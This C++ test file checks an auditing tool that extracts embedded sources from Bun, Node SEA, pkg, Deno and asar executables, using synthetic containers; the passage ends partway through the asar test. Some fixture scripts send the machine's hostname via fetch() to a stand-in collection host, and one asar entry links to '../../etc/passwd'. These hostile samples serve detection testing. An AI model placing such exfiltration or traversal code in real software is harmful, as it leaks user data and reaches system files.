// Tests of the container readers on small containers built by the test
// itself (every format, both Bun layouts, the three object formats), on
// damaged and hostile variants, and, when tests/audit/fixtures/make_fixtures.sh
// has been run, on real executables built by Bun and Node's SEA tooling.
#include "audit/unpack.h"

#include <archive.h>
#include <archive_entry.h>
#include <brotli/encode.h>
#include <fmt/format.h>
#include <gtest/gtest.h>
#include <unistd.h>
#include <zlib.h>

#include <cstdlib>
#include <cstring>
#include <filesystem>
#include <fstream>
#include <string>
#include <vector>

#include "audit/object_file.h"

namespace glassbox::audit {
namespace {

// --- little builders -------------------------------------------------------

void Put32(std::string* s, std::uint32_t v) {
  for (int i = 0; i < 4; ++i) s->push_back(static_cast<char>(v >> (8 * i)));
}
void Put64(std::string* s, std::uint64_t v) {
  for (int i = 0; i < 8; ++i) s->push_back(static_cast<char>(v >> (8 * i)));
}
void Put16(std::string* s, std::uint16_t v) {
  s->push_back(static_cast<char>(v));
  s->push_back(static_cast<char>(v >> 8));
}
void PutBe64(std::string* s, std::uint64_t v) {
  for (int i = 7; i >= 0; --i) s->push_back(static_cast<char>(v >> (8 * i)));
}
void Pad(std::string* s, size_t align) {
  while (s->size() % align != 0) s->push_back('\0');
}
std::string Name(std::string_view n, size_t field) {
  std::string s(n);
  s.resize(field, '\0');
  return s;
}

struct BunModule {
  std::string name, contents, sourcemap, bytecode;
  unsigned char encoding = 2, loader = 1;
};

// Serialises a Bun module graph: payload, Offsets, trailer. `pointers` is the
// number of string pointers per table entry (6 in current releases, 4 or 3
// in older ones) and `offsets_size` 32 (current) or 24 (older).
// loader_only writes Bun 1.0/1.1.0's 32-byte entries: three pointers, the
// loader, and seven bytes of padding that Bun does not zero (filled with junk
// here, as in a real Bun 1.1.0 build of a large bundle).
std::string BunGraph(const std::vector<BunModule>& modules, std::uint32_t entry, int pointers,
                     int offsets_size, int enum_bytes = 4, bool loader_only = false) {
  std::string payload;
  std::vector<std::vector<std::pair<std::uint32_t, std::uint32_t>>> ptrs;
  for (const BunModule& m : modules) {
    std::vector<std::pair<std::uint32_t, std::uint32_t>> p;
    for (const std::string* s : {&m.name, &m.contents, &m.sourcemap, &m.bytecode}) {
      p.emplace_back(static_cast<std::uint32_t>(payload.size()),
                     static_cast<std::uint32_t>(s->size()));
      payload += *s;
      payload.push_back('\0');
    }
    ptrs.push_back(p);
  }
  std::uint32_t modules_off = static_cast<std::uint32_t>(payload.size());
  for (size_t i = 0; i < modules.size(); ++i) {
    for (int j = 0; j < pointers; ++j) {
      auto p = j < 4 ? ptrs[i][j] : std::make_pair(0u, 0u);
      Put32(&payload, p.first);
      Put32(&payload, p.second);
    }
    if (loader_only) {
      payload.push_back(static_cast<char>(modules[i].loader));
      payload += "cli.js\xff";
      continue;
    }
    payload.push_back(static_cast<char>(modules[i].encoding));
    payload.push_back(static_cast<char>(modules[i].loader));
    payload.push_back('\1');
    payload.append(static_cast<size_t>(enum_bytes - 3), '\0');
  }
  std::uint32_t modules_len = static_cast<std::uint32_t>(payload.size()) - modules_off;
  std::string out = payload;
  Put64(&out, payload.size());
  Put32(&out, modules_off);
  Put32(&out, modules_len);
  Put32(&out, entry);
  if (offsets_size == 32) {
    Put32(&out, 0);
    Put32(&out, 0);
    Put32(&out, 0);
  } else {
    Put32(&out, 0);  // padding of the older 24-byte Offsets
  }
  out += "\n---- Bun! ----\n";
  return out;
}

// A minimal ELF64 file with the given named sections (and PT_NOTE segments
// for sections whose name starts with ".note").
std::string Elf(const std::vector<std::pair<std::string, std::string>>& sections) {
  std::string body;
  std::string shstrtab(1, '\0');
  std::vector<std::uint64_t> offsets, name_at;
  const size_t kHeader = 64;
  for (const auto& [name, data] : sections) {
    name_at.push_back(shstrtab.size());
    shstrtab += name;
    shstrtab.push_back('\0');
    while ((kHeader + body.size()) % 8) body.push_back('\0');
    offsets.push_back(kHeader + body.size());
    body += data;
  }
  std::uint64_t shstrtab_off = kHeader + body.size();
  body += shstrtab;
  while ((kHeader + body.size()) % 8) body.push_back('\0');
  std::uint64_t phoff = kHeader + body.size();
  size_t notes = 0;
  std::string ph;
  for (size_t i = 0; i < sections.size(); ++i) {
    if (sections[i].first.rfind(".note", 0) != 0) continue;
    ++notes;
    Put32(&ph, 4);  // PT_NOTE
    Put32(&ph, 4);
    Put64(&ph, offsets[i]);
    Put64(&ph, 0);
    Put64(&ph, 0);
    Put64(&ph, sections[i].second.size());
    Put64(&ph, sections[i].second.size());
    Put64(&ph, 4);
  }
  body += ph;
  std::uint64_t shoff = kHeader + body.size();
  std::string sh(64, '\0');  // null section
  for (size_t i = 0; i < sections.size(); ++i) {
    Put32(&sh, static_cast<std::uint32_t>(name_at[i]));
    Put32(&sh, sections[i].first.rfind(".note", 0) == 0 ? 7 : 1);
    Put64(&sh, 2);
    Put64(&sh, 0);
    Put64(&sh, offsets[i]);
    Put64(&sh, sections[i].second.size());
    Put32(&sh, 0);
    Put32(&sh, 0);
    Put64(&sh, 8);
    Put64(&sh, 0);
  }
  // The section-name table itself (named by the empty string at 0).
  Put32(&sh, 0);
  Put32(&sh, 3);  // SHT_STRTAB
  Put64(&sh, 0);
  Put64(&sh, 0);
  Put64(&sh, shstrtab_off);
  Put64(&sh, shstrtab.size());
  Put32(&sh, 0);
  Put32(&sh, 0);
  Put64(&sh, 1);
  Put64(&sh, 0);
  body += sh;
  std::string h =
      "\x7f"
      "ELF";
  h += '\2';  // 64-bit
  h += '\1';  // little-endian
  h += '\1';
  h.resize(16, '\0');
  Put16(&h, 2);     // ET_EXEC
  Put16(&h, 0x3e);  // x86-64
  Put32(&h, 1);
  Put64(&h, 0);
  Put64(&h, notes ? phoff : 0);
  Put64(&h, shoff);
  Put32(&h, 0);
  Put16(&h, 64);
  Put16(&h, 56);
  Put16(&h, static_cast<std::uint16_t>(notes));
  Put16(&h, 64);
  Put16(&h, static_cast<std::uint16_t>(sections.size() + 2));
  Put16(&h, static_cast<std::uint16_t>(sections.size() + 1));
  return h + body;
}

// A minimal 64-bit Mach-O with one segment holding one section.
std::string MachO(std::string_view segment, std::string_view section, const std::string& data) {
  std::string cmd;
  Put32(&cmd, 0x19);
  Put32(&cmd, 72 + 80);
  cmd += Name(segment, 16);
  for (int i = 0; i < 4; ++i) Put64(&cmd, 0);
  Put32(&cmd, 7);
  Put32(&cmd, 7);
  Put32(&cmd, 1);
  Put32(&cmd, 0);
  std::uint32_t data_off = 32 + 72 + 80;
  cmd += Name(section, 16);
  cmd += Name(segment, 16);
  Put64(&cmd, 0);
  Put64(&cmd, data.size());
  Put32(&cmd, data_off);
  for (int i = 0; i < 7; ++i) Put32(&cmd, 0);
  std::string h;
  Put32(&h, 0xfeedfacf);
  Put32(&h, 0x01000007);
  Put32(&h, 3);
  Put32(&h, 2);
  Put32(&h, 1);
  Put32(&h, static_cast<std::uint32_t>(cmd.size()));
  Put32(&h, 0);
  Put32(&h, 0);
  return h + cmd + data;
}

// A minimal PE with one section.
std::string Pe(std::string_view section, const std::string& data) {
  std::string f(0x40, '\0');
  f[0] = 'M';
  f[1] = 'Z';
  f[0x3c] = 0x40;
  f += std::string("PE\0\0", 4);
  Put16(&f, 0x8664);
  Put16(&f, 1);
  Put32(&f, 0);
  Put32(&f, 0);
  Put32(&f, 0);
  Put16(&f, 0);  // no optional header
  Put16(&f, 0x22);
  std::uint32_t raw = 0x200;
  f += Name(section, 8);
  Put32(&f, static_cast<std::uint32_t>(data.size()));
  Put32(&f, 0x1000);
  Put32(&f, static_cast<std::uint32_t>(data.size()));
  Put32(&f, raw);
  f.resize(f.size() + 16, '\0');
  f.resize(raw, '\0');
  return f + data;
}

std::string SeaBlob(std::string_view code_path, std::string_view main, std::uint32_t flags = 1) {
  std::string b;
  Put32(&b, 0x0143da20);
  Put32(&b, flags);
  if (!code_path.empty()) {
    Put64(&b, code_path.size());
    b += code_path;
  }
  Put64(&b, main.size());
  b += main;
  return b;
}

std::string ElfNote(std::string_view name, const std::string& desc) {
  std::string n;
  Put32(&n, static_cast<std::uint32_t>(name.size() + 1));
  Put32(&n, static_cast<std::uint32_t>(desc.size()));
  Put32(&n, 0);
  n += name;
  n.push_back('\0');
  Pad(&n, 4);
  n += desc;
  Pad(&n, 4);
  return n;
}

// An asar archive from (path, contents) files; `extra` is spliced into the
// JSON index's top-level "files" object.
std::string Asar(const std::vector<std::pair<std::string, std::string>>& files,
                 const std::string& extra = "") {
  std::string json = "{\"files\":{";
  std::string data;
  bool first = true;
  for (const auto& [name, contents] : files) {
    json += (first ? "" : ",") + std::string("\"") + name +
            "\":{\"size\":" + std::to_string(contents.size()) + ",\"offset\":\"" +
            std::to_string(data.size()) + "\"}";
    data += contents;
    first = false;
  }
  json += extra + "}}";
  std::string pickle;
  Put32(&pickle, 0);  // payload size, filled below
  Put32(&pickle, static_cast<std::uint32_t>(json.size()));
  pickle += json;
  Pad(&pickle, 4);
  std::uint32_t payload = static_cast<std::uint32_t>(pickle.size() - 4);
  std::memcpy(pickle.data(), &payload, 4);
  std::string out;
  Put32(&out, 4);
  Put32(&out, static_cast<std::uint32_t>(pickle.size()));
  return out + pickle + data;
}

struct TarEntry {
  std::string path, contents, symlink;
};

std::string Tarball(const std::vector<TarEntry>& entries, size_t capacity = 1 << 20) {
  std::vector<char> buf(capacity);
  size_t used = 0;
  archive* a = archive_write_new();
  archive_write_add_filter_gzip(a);
  archive_write_set_format_pax_restricted(a);
  archive_write_open_memory(a, buf.data(), buf.size(), &used);
  for (const TarEntry& t : entries) {
    archive_entry* e = archive_entry_new();
    archive_entry_set_pathname(e, t.path.c_str());
    if (!t.symlink.empty()) {
      archive_entry_set_filetype(e, AE_IFLNK);
      archive_entry_set_symlink(e, t.symlink.c_str());
      archive_entry_set_size(e, 0);
    } else {
      archive_entry_set_filetype(e, AE_IFREG);
      archive_entry_set_size(e, static_cast<la_int64_t>(t.contents.size()));
    }
    archive_entry_set_perm(e, 0644);
    archive_write_header(a, e);
    if (t.symlink.empty()) archive_write_data(a, t.contents.data(), t.contents.size());
    archive_entry_free(e);
  }
  archive_write_close(a);
  archive_write_free(a);
  return std::string(buf.data(), used);
}

const Module* Find(const Unpacked& u, std::string_view path) {
  for (const Module& m : u.modules) {
    if (m.path == path) return &m;
  }
  return nullptr;
}

bool NoteContains(const Unpacked& u, std::string_view text) {
  for (const std::string& n : u.notes) {
    if (n.find(text) != std::string::npos) return true;
  }
  return false;
}

std::string RuntimeNoise() {
  // Stands for the runtime's own bytes, including the trailer string as a
  // constant, which must not be taken for the graph.
  std::string s(4096, '\x90');
  s += "snowpack@>=3.3.0\n---- Bun! ----\n.r2.cloudflarestorage";
  s.resize(8192, '\xcc');
  return s;
}

class TempDir {
 public:
  TempDir() {
    std::string t = (std::filesystem::temp_directory_path() / "glassbox-unpack.XXXXXX").string();
    path_ = mkdtemp(t.data());
  }
  ~TempDir() { std::filesystem::remove_all(path_); }
  const std::string& path() const { return path_; }
  void Write(const std::string& rel, const std::string& contents) const {
    std::filesystem::create_directories(std::filesystem::path(path_ + "/" + rel).parent_path());
    std::ofstream(path_ + "/" + rel, std::ios::binary) << contents;
  }

 private:
  std::string path_;
};

// --- Bun -------------------------------------------------------------------

std::vector<BunModule> SampleBunModules() {
  BunModule a{"/$bunfs/root/cli.js", "console.log(process.env.TZ);\n", "{\"version\":3}", "", 2, 1};
  BunModule b{"/$bunfs/root/latin.js", std::string("var s = \"caf\xe9\";\n"), "", "BYTECODE", 1, 1};
  BunModule c{
      "/$bunfs/root/wide.js", std::string("v\0a\0r\0 \0x\0 \0=\0 \0\x19\x20;\0", 20), "", "", 0, 1};
  BunModule d{"/$bunfs/root/addon.node",
              "\x7f"
              "ELF binary",
              "",
              "",
              0,
              10};
  return {a, b, c, d};
}

void ExpectSampleBun(const Unpacked& u) {
  ASSERT_EQ(u.kind, "bun-sea");
  ASSERT_EQ(u.modules.size(), 3u) << ::testing::PrintToString(u.notes);
  const Module* cli = Find(u, "/$bunfs/root/cli.js");
  ASSERT_NE(cli, nullptr);
  EXPECT_EQ(cli->text, "console.log(process.env.TZ);\n");
  EXPECT_TRUE(cli->entry_point);
  EXPECT_TRUE(cli->has_sourcemap);
  EXPECT_EQ(cli->encoding, "utf8");
  const Module* latin = Find(u, "/$bunfs/root/latin.js");
  ASSERT_NE(latin, nullptr);
  EXPECT_EQ(latin->text, "var s = \"caf\xc3\xa9\";\n");
  EXPECT_EQ(latin->encoding, "latin1");
  EXPECT_TRUE(latin->has_bytecode);
  EXPECT_FALSE(latin->entry_point);
  const Module* wide = Find(u, "/$bunfs/root/wide.js");
  ASSERT_NE(wide, nullptr);
  EXPECT_EQ(wide->encoding, "utf16le");
  EXPECT_EQ(wide->text, "var x = \xe2\x80\x99;");
  EXPECT_TRUE(NoteContains(u, "addon.node' is binary (loader napi"));
}

TEST(BunSea, TrailerLayoutCurrentTable) {
  std::string file = RuntimeNoise() + BunGraph(SampleBunModules(), 0, 6, 32);
  auto u = UnpackBytes(file, "agent");
  ASSERT_TRUE(u.ok()) << u.status().message();
  ExpectSampleBun(*u);
  EXPECT_EQ(u->layout, "trailer");
  const Module* cli = Find(*u, "/$bunfs/root/cli.js");
  EXPECT_EQ(file.substr(cli->offset, cli->stored_bytes), cli->text);
}

TEST(BunSea, TrailerLayoutOlderTableAndOffsets) {
  // 4 pointers (36-byte entries), 3 pointers with encoding and loader (28),
  // and Bun 1.0/1.1.0's 32-byte entries: 3 pointers, the loader alone, junk.
  for (auto [pointers, enum_bytes] : {std::pair{4, 4}, std::pair{3, 4}, std::pair{3, 8}}) {
    auto modules = SampleBunModules();
    if (pointers == 3) modules[1].bytecode.clear();
    const bool loader_only = enum_bytes == 8;
    std::string file = RuntimeNoise() + BunGraph(modules, 0, pointers, 24, enum_bytes, loader_only);
    Put64(&file, file.size() + 8);  // older releases end with the total size
    auto u = UnpackBytes(file, "agent");
    ASSERT_TRUE(u.ok());
    ASSERT_EQ(u->kind, "bun-sea") << pointers;
    EXPECT_EQ(u->modules.size(), 3u);
    EXPECT_NE(Find(*u, "/$bunfs/root/latin.js"), nullptr);
    if (loader_only) {
      // No encoding byte: the bytes decide (UTF-8 here), not the junk after the loader.
      const Module* cli = Find(*u, "/$bunfs/root/cli.js");
      ASSERT_NE(cli, nullptr);
      EXPECT_EQ(cli->encoding, "utf8");
    }
  }
}

TEST(BunSea, SectionLayoutInElfMachOAndPe) {
  std::string graph = BunGraph(SampleBunModules(), 0, 6, 32);
  std::string section;
  Put64(&section, graph.size());
  section += graph;
  struct Case {
    std::string file, format;
  } cases[] = {
      {Elf({{".text", RuntimeNoise()}, {".bun", section}}), "elf"},
      {MachO("__BUN", "__bun", section), "mach-o"},
      {Pe(".bun", section), "pe"},
  };
  for (const Case& c : cases) {
    auto u = UnpackBytes(c.file, "agent");
    ASSERT_TRUE(u.ok());
    EXPECT_EQ(u->object_format, c.format);
    EXPECT_EQ(u->layout, "section") << c.format;
    ExpectSampleBun(*u);
  }
}

TEST(BunSea, FileAssetsThatAreTextOrCompressedTextAreRead) {
  // zstd of "# SKILL\nUse the tool.\n" (zstd -19), and a binary asset.
  const unsigned char kZstd[] = {0x28, 0xb5, 0x2f, 0xfd, 0x04, 0x68, 0xb1, 0x00, 0x00,
                                 0x23, 0x20, 0x53, 0x4b, 0x49, 0x4c, 0x4c, 0x0a, 0x55,
                                 0x73, 0x65, 0x20, 0x74, 0x68, 0x65, 0x20, 0x74, 0x6f,
                                 0x6f, 0x6c, 0x2e, 0x0a, 0xe1, 0x27, 0x7d, 0xfe};
  std::vector<BunModule> modules = {
      {"/$bunfs/root/cli.js", "run()", "", "", 2, 1},
      {"/$bunfs/root/SKILL.md.zst", std::string(reinterpret_cast<const char*>(kZstd), sizeof kZstd),
       "", "", 0, 5},
      {"/$bunfs/root/prompt.md", "You are a helpful agent.\n", "", "", 0, 5},
      {"/$bunfs/root/bad.zst", std::string("\x28\xb5\x2f\xfd garbage", 12), "", "", 0, 5},
      {"/$bunfs/root/icon.png", std::string("\x89PNG\r\n\x1a\n\0\0\0\rIHDR", 16), "", "", 0, 5},
  };
  std::string file = RuntimeNoise() + BunGraph(modules, 0, 6, 32);
  auto u = UnpackBytes(file, "agent");
  ASSERT_TRUE(u.ok());
  ASSERT_EQ(u->kind, "bun-sea");
  const Module* skill = Find(*u, "/$bunfs/root/SKILL.md.zst");
  ASSERT_NE(skill, nullptr) << ::testing::PrintToString(u->notes);
  EXPECT_EQ(skill->text, "# SKILL\nUse the tool.\n");
  EXPECT_EQ(skill->stored_bytes, sizeof kZstd);
  ASSERT_NE(Find(*u, "/$bunfs/root/prompt.md"), nullptr);
  EXPECT_TRUE(NoteContains(*u, "'/$bunfs/root/bad.zst' is compressed and could not be read"));
  EXPECT_TRUE(NoteContains(*u, "'/$bunfs/root/icon.png' is binary (loader file"));
}

TEST(BunSea, FatMachOSlice) {
  std::string graph = BunGraph(SampleBunModules(), 0, 6, 32);
  std::string section;
  Put64(&section, graph.size());
  section += graph;
  std::string slice = MachO("__BUN", "__bun", section);
  // fat_header and one fat_arch, big-endian; the slice at offset 4096.
  std::string fat;
  for (std::uint32_t v :
       {0xcafebabeu, 1u, 0x0100000cu, 0u, 4096u, static_cast<std::uint32_t>(slice.size()), 12u}) {
    for (int i = 3; i >= 0; --i) fat.push_back(static_cast<char>(v >> (8 * i)));
  }
  fat.resize(4096, '\0');
  fat += slice;
  auto u = UnpackBytes(fat, "agent-universal");
  ASSERT_TRUE(u.ok());
  EXPECT_EQ(u->object_format, "mach-o");
  EXPECT_EQ(u->layout, "section");
  ExpectSampleBun(*u);
}

TEST(BunSea, DamagedGraphFallsBackToStringsWithANote) {
  std::string graph = BunGraph(SampleBunModules(), 0, 6, 32);
  // Point the module table past the payload.
  size_t offsets = graph.size() - 16 - 32;
  graph[offsets + 8] = '\xff';
  graph[offsets + 9] = '\xff';
  std::string section;
  Put64(&section, graph.size());
  section += graph;
  auto u = UnpackBytes(Elf({{".bun", section}}), "agent");
  ASSERT_TRUE(u.ok());
  EXPECT_EQ(u->kind, "native");
  EXPECT_TRUE(NoteContains(*u, "holds no module graph"));
  EXPECT_FALSE(u->strings.empty());
}

TEST(BunSea, EntryPointOutOfRangeIsRejected) {
  std::string file = RuntimeNoise() + BunGraph(SampleBunModules(), 9, 6, 32);
  auto u = UnpackBytes(file, "agent");
  ASSERT_TRUE(u.ok());
  EXPECT_NE(u->kind, "bun-sea");
}

// --- Node SEA --------------------------------------------------------------

TEST(NodeSea, ElfNote) {
  std::string blob = SeaBlob("main.js", "fetch('https://telemetry.example/v1');\n", 1 | 4);
  blob += std::string("\x04\0\0\0\0\0\0\0CACH", 12);  // code cache
  std::string file =
      Elf({{".text", RuntimeNoise()}, {".note.sea", ElfNote("NODE_SEA_BLOB", blob)}});
  auto u = UnpackBytes(file, "sea");
  ASSERT_TRUE(u.ok());
  ASSERT_EQ(u->kind, "node-sea");
  EXPECT_EQ(u->layout, "resource");
  ASSERT_EQ(u->modules.size(), 1u);
  EXPECT_EQ(u->modules[0].path, "main.js");
  EXPECT_EQ(u->modules[0].text, "fetch('https://telemetry.example/v1');\n");
  EXPECT_TRUE(u->modules[0].entry_point);
  EXPECT_TRUE(u->modules[0].has_bytecode);
}

TEST(NodeSea, OlderBlobWithoutCodePathInMachO) {
  std::string blob = SeaBlob("", "console.log(1)\n");
  auto u = UnpackBytes(MachO("NODE_SEA", "__NODE_SEA_BLOB", blob), "sea");
  ASSERT_TRUE(u.ok());
  ASSERT_EQ(u->kind, "node-sea");
  ASSERT_EQ(u->modules.size(), 1u);
  EXPECT_EQ(u->modules[0].text, "console.log(1)\n");
}

TEST(NodeSea, PeResourceFoundByMagicWithAssets) {
  std::string blob = SeaBlob("app.js", "require('./x')\n", 1 | 8);
  Put64(&blob, 2);
  for (auto [k, v] :
       {std::pair<std::string, std::string>{"cfg.json", "{\"endpoint\":\"https://x.example\"}"},
        {"logo.png", std::string("\x89PNG\0\0\0", 7)}}) {
    Put64(&blob, k.size());
    blob += k;
    Put64(&blob, v.size());
    blob += v;
  }
  // A stray copy of the magic before the blob, as in the runtime's code.
  std::string rsrc = std::string("\x20\xda\x43\x01\xff\xff\xff\xff", 8) + blob;
  auto u = UnpackBytes(Pe(".rsrc", rsrc), "sea.exe");
  ASSERT_TRUE(u.ok());
  ASSERT_EQ(u->kind, "node-sea");
  EXPECT_EQ(u->layout, "magic");
  ASSERT_EQ(u->modules.size(), 2u);
  EXPECT_NE(Find(*u, "NODE_SEA_BLOB:asset/cfg.json"), nullptr);
  EXPECT_TRUE(NoteContains(*u, "asset 'logo.png' is binary"));
}

TEST(NodeSea, SnapshotIsNotedNotRead) {
  std::string blob = SeaBlob("snap.js", std::string("\x01\x02\x03\0\0snapshot", 13), 1 | 2);
  auto u = UnpackBytes(Elf({{".note.sea", ElfNote("NODE_SEA_BLOB", blob)}}), "sea");
  ASSERT_TRUE(u.ok());
  EXPECT_EQ(u->kind, "node-sea");
  EXPECT_TRUE(NoteContains(*u, "V8 startup snapshot"));
}

// --- pkg, deno --------------------------------------------------------------

// A pkg executable: runtime noise, the four placeholders filled in, the
// payload, and a prelude ending in the VFS arguments with `compress`.
std::string PkgFile(const std::string& payload, const std::string& vfs,
                    const std::string& compress) {
  std::string prelude =
      "return (function (REQUIRE_COMMON, VIRTUAL_FILESYSTEM) { ... })(function (exports) {\n"
      "stuff\n},\n" +
      vfs + "\n,\n\"/snapshot/app/index.js\"\n,\n{}\n,\n{}\n,\n" + compress + "\n);";
  std::string file = RuntimeNoise() +
                     "var PAYLOAD_POSITION = 'AAAAAAAAAA' | 0;var PAYLOAD_SIZE = 'BBBBBBBBBB' | 0;"
                     "var PRELUDE_POSITION = 'CCCCCCCCCC' | 0;var PRELUDE_SIZE = 'DDDDDDDDDD' | 0;";
  size_t payload_pos = file.size();
  file += payload;
  size_t prelude_pos = file.size();
  file += prelude;
  auto fill = [&](char c, size_t v) {
    std::string s = std::to_string(v);
    s.resize(10, ' ');
    file.replace(file.find(std::string(10, c)), 10, s);
  };
  fill('A', payload_pos);
  fill('B', payload.size());
  fill('C', prelude_pos);
  fill('D', prelude.size());
  return file;
}

TEST(Pkg, PayloadFromPlaceholders) {
  std::string payload =
      "BYTECODE.."
      "module.exports = process.env.HTTPS_PROXY;\n"
      "{\"a\":1}";
  std::string vfs =
      "{\"/snapshot/app/index.js\":{\"0\":[0,10],\"1\":[10,42],\"3\":[0,0]},"
      "\"/snapshot/app/data.json\":{\"1\":[52,7]},\"/snapshot/app/only.js\":{\"0\":[0,10]},"
      "\"/snapshot/app\":{\"2\":[0,0]}}";
  auto u = UnpackBytes(PkgFile(payload, vfs, "0"), "pkg-app");
  ASSERT_TRUE(u.ok());
  ASSERT_EQ(u->kind, "pkg") << ::testing::PrintToString(u->notes);
  ASSERT_EQ(u->modules.size(), 2u) << ::testing::PrintToString(u->notes);
  const Module* index = Find(*u, "/snapshot/app/index.js");
  ASSERT_NE(index, nullptr);
  EXPECT_EQ(index->text, "module.exports = process.env.HTTPS_PROXY;\n");
  EXPECT_TRUE(index->has_bytecode);
  EXPECT_TRUE(index->entry_point);
  EXPECT_TRUE(NoteContains(*u, "1 files are stored as V8 bytecode only"));
}

std::string Gzip(std::string_view in) {
  z_stream z{};
  EXPECT_EQ(deflateInit2(&z, 9, Z_DEFLATED, 15 + 16, 8, Z_DEFAULT_STRATEGY), Z_OK);
  std::string out(deflateBound(&z, in.size()) + 32, '\0');
  z.next_in = reinterpret_cast<Bytef*>(const_cast<char*>(in.data()));
  z.avail_in = static_cast<uInt>(in.size());
  z.next_out = reinterpret_cast<Bytef*>(out.data());
  z.avail_out = static_cast<uInt>(out.size());
  EXPECT_EQ(deflate(&z, Z_FINISH), Z_STREAM_END);
  out.resize(z.total_out);
  deflateEnd(&z);
  return out;
}

std::string Brotli(std::string_view in) {
  size_t n = BrotliEncoderMaxCompressedSize(in.size());
  std::string out(n, '\0');
  EXPECT_TRUE(BrotliEncoderCompress(BROTLI_DEFAULT_QUALITY, BROTLI_DEFAULT_WINDOW, BROTLI_MODE_TEXT,
                                    in.size(), reinterpret_cast<const std::uint8_t*>(in.data()), &n,
                                    reinterpret_cast<std::uint8_t*>(out.data())));
  out.resize(n);
  return out;
}

// `pkg --compress GZip|Brotli` stores every file as its own stream.
TEST(Pkg, CompressedPayloadsAreReadAndDamageIsNamed) {
  const std::string source =
      "const h = require('os').hostname(); fetch('https://collect.example/' + h);\n";
  const std::string json = "{\"endpoint\": \"https://cfg.example/v1\"}";
  for (const std::string mode : {"1", "2"}) {
    auto pack = [&](std::string_view s) { return mode == "1" ? Gzip(s) : Brotli(s); };
    const std::string a = pack(source), b = pack(json);
    const std::string broken = pack(source).substr(0, a.size() / 2);
    const std::string payload = a + b + broken;
    const std::string vfs = fmt::format(
        "{{\"/snapshot/app/index.js\":{{\"1\":[0,{}]}},\"/snapshot/app/"
        "cfg.json\":{{\"1\":[{},{}]}},"
        "\"/snapshot/app/cut.js\":{{\"1\":[{},{}]}}}}",
        a.size(), a.size(), b.size(), a.size() + b.size(), broken.size());
    auto u = UnpackBytes(PkgFile(payload, vfs, mode), "pkg-app");
    ASSERT_TRUE(u.ok());
    ASSERT_EQ(u->kind, "pkg") << mode;
    ASSERT_EQ(u->modules.size(), 2u) << mode << ::testing::PrintToString(u->notes);
    const Module* index = Find(*u, "/snapshot/app/index.js");
    ASSERT_NE(index, nullptr);
    EXPECT_EQ(index->text, source);
    EXPECT_EQ(index->stored_bytes, a.size());
    EXPECT_TRUE(index->entry_point);
    ASSERT_NE(Find(*u, "/snapshot/app/cfg.json"), nullptr);
    EXPECT_EQ(Find(*u, "/snapshot/app/cfg.json")->text, json);
    EXPECT_TRUE(NoteContains(*u, "'/snapshot/app/cut.js' (")) << ::testing::PrintToString(u->notes);
    EXPECT_TRUE(NoteContains(*u, "could not be decompressed"));
  }
  auto unknown =
      UnpackBytes(PkgFile("x", "{\"/snapshot/app/index.js\":{\"1\":[0,1]}}", "7"), "pkg-app");
  ASSERT_TRUE(unknown.ok());
  EXPECT_TRUE(unknown->modules.empty());
  EXPECT_TRUE(NoteContains(*unknown, "compression mode '7'"));
}

TEST(Deno, TrailerLayout) {
  std::string file = RuntimeNoise();
  std::uint64_t eszip = file.size();
  file += "ESZIP2.3\x01\x02file:///app/main.ts\x03";
  std::string source =
      "const host = Deno.hostname(); fetch(`https://collect.example/?h=${host}`);\n";
  file += source;
  std::uint64_t metadata = file.size();
  file += "{\"argv\":[]}";
  file += "d3n0l4nd";
  PutBe64(&file, eszip);
  PutBe64(&file, metadata);
  auto u = UnpackBytes(Elf({{".text", "x"}}) + file, "deno-app");
  ASSERT_TRUE(u.ok());
  // The ELF prefix shifts the positions: the trailer no longer validates
  // against the file, so test the bare payload too.
  auto bare = UnpackBytes(file, "deno-app");
  ASSERT_TRUE(bare.ok());
  ASSERT_EQ(bare->kind, "deno");
  ASSERT_EQ(bare->modules.size(), 1u);
  EXPECT_NE(bare->modules[0].text.find("Deno.hostname()"), std::string::npos);
  EXPECT_TRUE(NoteContains(*bare, "no file table found"));
}

TEST(Deno, Deno2NoteWithFileTable) {
  std::string data = "export const x = 1;\nimport {x} from './lib/util.ts';\nconsole.log(x)\n";
  std::string vfs =
      "[{\"Dir\":{\"n\":\"lib\",\"e\":[{\"File\":{\"n\":\"util.ts\",\"o\":[0,20]}}]}},"
      "{\"File\":{\"n\":\"main.ts\",\"o\":[20,48],\"m\":[20,48],\"s\":[0,1]}},"
      "{\"File\":{\"n\":\"bad.ts\",\"o\":[60,999]}}]";
  std::string meta = "{\"argv\":[],\"permissions\":{\"allow_env\":[\"TZ\"]}}";
  std::string desc;
  Put16(&desc, 8);
  desc += "d3n0l4nd";
  desc += "d3n0l4nd";
  Put64(&desc, meta.size());
  desc += meta;
  Put64(&desc, 0);
  Put64(&desc, 0);
  Put32(&desc, 0);
  Put64(&desc, vfs.size());
  desc += vfs;
  Put64(&desc, data.size());
  desc += data;
  desc += "d3n0l4nd";
  std::string file =
      Elf({{".text", RuntimeNoise() + "d3n0l4nd"}, {".note.sui", ElfNote("SUI", desc)}});
  auto u = UnpackBytes(file, "deno-app");
  ASSERT_TRUE(u.ok());
  ASSERT_EQ(u->kind, "deno");
  EXPECT_EQ(u->layout, "note");
  const Module* util = Find(*u, "deno:/lib/util.ts");
  ASSERT_NE(util, nullptr) << ::testing::PrintToString(u->notes);
  EXPECT_EQ(util->text, "export const x = 1;\n");
  const Module* main = Find(*u, "deno:/main.ts (transpiled)");
  ASSERT_NE(main, nullptr);
  EXPECT_TRUE(main->has_sourcemap);
  EXPECT_NE(Find(*u, "deno:metadata.json"), nullptr);
  EXPECT_TRUE(NoteContains(*u, "'deno:/bad.ts' has a range outside the embedded data"));
}

// --- asar ------------------------------------------------------------------

TEST(Asar, FilesLinksAndUnpacked) {
  std::string extra =
      ",\"lib\":{\"files\":{\"net.js\":{\"size\":5,\"offset\":\"0\"},\"bad.js\":{\"size\":9999,"
      "\"offset\":\"0\"}}}"
      ",\"native.node\":{\"size\":10,\"unpacked\":true}"
      ",\"link.js\":{\"link\":\"../../etc/passwd\"}";
  std::string file = Asar(
      {{"main.js", "require('electron')\n"}, {"package.json", "{\"main\":\"main.js\"}"}}, extra);
  auto u = UnpackBytes(file, "app.asar");
  ASSERT_TRUE(u.ok());
  ASSERT_EQ(u->kind, "asar");
  EXPECT_EQ(u->modules.size(), 3u) << ::testing::PrintToString(u->notes);
  const Module* main = Find(*u, "main.js");
  ASSERT_NE(main, nullptr);
  EXPECT_EQ(main->text, "require('electron')\n");
  EXPECT_EQ(file.substr(main->offset, main->stored_bytes), main->text);
  EXPECT_NE(Find(*u, "lib/net.js"), nullptr);
